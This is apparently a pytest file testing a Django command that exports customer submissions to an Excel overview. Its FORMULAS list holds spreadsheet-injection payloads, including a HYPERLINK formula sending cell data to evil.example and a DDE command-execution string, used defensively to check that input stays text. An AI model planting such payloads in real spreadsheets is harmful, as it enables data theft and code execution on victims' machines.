"""The workbook for people: complete, readable, and without a formula whatever a customer typed."""

import stat
from io import StringIO
from pathlib import Path
from unittest import mock
from zipfile import ZipFile

import pytest
import time_machine
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from kundenportal.audit.models import AuditEntry
from kundenportal.erp.outbound import overview
from kundenportal.submissions.models import Submission
from tests.erp.exports import export, make_known_submission
from tests.make import NOW, make_customer, make_premise, make_reading_submission, make_register
from tests.snapshot import snapshot

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"Rechnung")',
    "=cmd|'/c calc'!A1",
    "+49 9872 123456",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "#REF!",
    "{=1+1}",
    "'=1+1",
]


def write(path: Path, *arguments: str) -> str:
    out = StringIO()
    with time_machine.travel(NOW, tick=False):
        call_command("export_overview", str(path), *arguments, stdout=out)
    return out.getvalue()


def sheets_of(path: Path) -> dict[str, list[tuple[str, ...]]]:
    book = load_workbook(path)
    return {
        sheet.title: [tuple(each or "" for each in row) for row in sheet.iter_rows(values_only=True)]
        for sheet in book
    }


def test_everything_sent_is_listed_and_what_left_is_shown(tmp_path):
    left = make_known_submission(remark="Keller")
    export(tmp_path)
    waiting = make_reading_submission()
    path = tmp_path / "vorgaenge.xlsx"

    assert write(path) == f"{path}: 2 Vorgänge\n"

    sheets = sheets_of(path)
    assert list(sheets) == ["Vorgänge", "zaehlerstaende"]
    head, first, second = sheets["Vorgänge"]
    assert head == overview.COLUMNS
    assert first == (
        left.reference,
        "Zählerstand",
        "In Arbeit",
        "22.11.2026 12:00",
        "0012345/1",
        "Michael Bauer",
        "VS-7",
        "Lindenstraße 12, 91560 Musterbach",
        "batch-000001",
        "",
        "",
        "Kundenportal",
    )
    assert second[:3] == (waiting.reference, "Zählerstand", "Eingegangen")
    csv = (tmp_path / "batch-000001/zaehlerstaende.csv").read_text().splitlines()
    assert [";".join(row) for row in sheets["zaehlerstaende"]] == csv


def test_one_batch_is_shown_alone(tmp_path):
    make_reading_submission()
    export(tmp_path)
    second = make_reading_submission()
    export(tmp_path)
    path = tmp_path / "stapel.xlsx"
    assert write(path, "--batch", "batch-000002") == f"{path}: 1 Vorgang\n"
    assert [row[0] for row in sheets_of(path)["Vorgänge"][1:]] == [second.reference]
    assert [row[0] for row in sheets_of(path)["zaehlerstaende"][1:]] == [second.reference]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_customer_typed_is_a_text_and_never_a_formula(text, tmp_path):
    customer = make_customer(last_name=text, first_name="")
    register = make_register(make_premise(customer, street=text, house_number=""))
    make_reading_submission(register, remark=text)
    Submission.objects.update(reason=text)
    export(tmp_path)
    path = tmp_path / "vorgaenge.xlsx"
    write(path)

    cells = [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    assert all(cell.quotePrefix for cell in cells)
    assert text.replace("\r", "\n") in {cell.value.replace("\r", "\n") for cell in cells}
    with ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
                assert b't="n"' not in archive.read(name)


def test_signs_that_no_workbook_holds_are_marked(tmp_path):
    make_reading_submission()
    Submission.objects.update(reason="a\x01b\ufffec\x0b")
    path = tmp_path / "vorgaenge.xlsx"
    write(path)
    assert sheets_of(path)["Vorgänge"][1][-2] == "a\ufffdb\ufffdc\ufffd"


def test_with_nothing_sent_only_the_head_is_there(tmp_path):
    path = tmp_path / "vorgaenge.xlsx"
    assert write(path) == f"{path}: 0 Vorgänge\n"
    assert sheets_of(path) == {"Vorgänge": [overview.COLUMNS]}


@pytest.mark.parametrize(("count", "sheets"), [(2, [2]), (3, [2, 1]), (4, [2, 2])])
def test_what_does_not_fit_on_a_sheet_goes_on_the_next(count, sheets, tmp_path, monkeypatch):
    monkeypatch.setattr(overview, "ROWS_PER_SHEET", 2)
    for _ in range(count):
        make_reading_submission()
    path = tmp_path / "vorgaenge.xlsx"
    assert write(path).endswith(f"{count} Vorgänge\n")
    found = sheets_of(path)
    assert list(found) == ["Vorgänge", "Vorgänge 2"][: len(sheets)]
    assert [len(rows) - 1 for rows in found.values()] == sheets


def test_the_file_is_for_owner_and_group_and_replaces_the_last_one(tmp_path, group_may_read):
    path = tmp_path / "vorgaenge.xlsx"
    path.write_bytes(b"old")
    path.chmod(0o644)
    write(path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    assert list(tmp_path.iterdir()) == [path]


def test_nothing_is_exported_by_looking(tmp_path):
    make_reading_submission()
    before = snapshot(but=[AuditEntry])
    write(tmp_path / "vorgaenge.xlsx")
    assert snapshot(but=[AuditEntry]) == before
    entry = AuditEntry.objects.get()
    assert (entry.action, entry.actor, entry.subject, entry.details) == (
        "overview.written",
        "erp",
        "vorgaenge.xlsx",
        {"submissions": 1},
    )


def test_a_full_disk_leaves_the_last_one_and_nothing_else(tmp_path):
    path = tmp_path / "vorgaenge.xlsx"
    path.write_bytes(b"old")
    before = snapshot()
    full = OSError(28, "No space left on device")
    with mock.patch("os.fsync", side_effect=full), pytest.raises(CommandError, match="No space left"):
        write(path)
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]
    assert snapshot() == before


def test_a_fault_in_the_middle_leaves_nothing(tmp_path):
    make_reading_submission()
    export(tmp_path / "erp")
    before = snapshot()
    with mock.patch.object(overview, "_rows_of", side_effect=RuntimeError), pytest.raises(RuntimeError):
        write(tmp_path / "vorgaenge.xlsx")
    assert [path.name for path in tmp_path.iterdir()] == ["erp"]
    assert snapshot() == before


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (("vorgaenge.xlsx", "--batch", "7"), "Es gibt keinen Stapel 7."),
        (("vorgaenge.xlsx", "--batch", "sieben"), "ist kein Stapel"),
        (("vorgaenge.csv",), "ist keine Tabelle"),
        (("fehlt/vorgaenge.xlsx",), "ist nicht geschrieben"),
    ],
)
def test_what_cannot_be_written_is_told(arguments, sentence, tmp_path):
    with pytest.raises(CommandError, match=sentence):
        write(tmp_path / arguments[0], *arguments[1:])
    assert list(tmp_path.iterdir()) == []


def test_the_number_of_statements_does_not_grow_with_the_submissions(tmp_path):
    counts = []
    for more in (1, 9):
        for _ in range(more):
            make_reading_submission()
        with CaptureQueriesContext(connection) as queries:
            write(tmp_path / "vorgaenge.xlsx")
        counts.append(len(queries))
    assert counts[0] == counts[1]
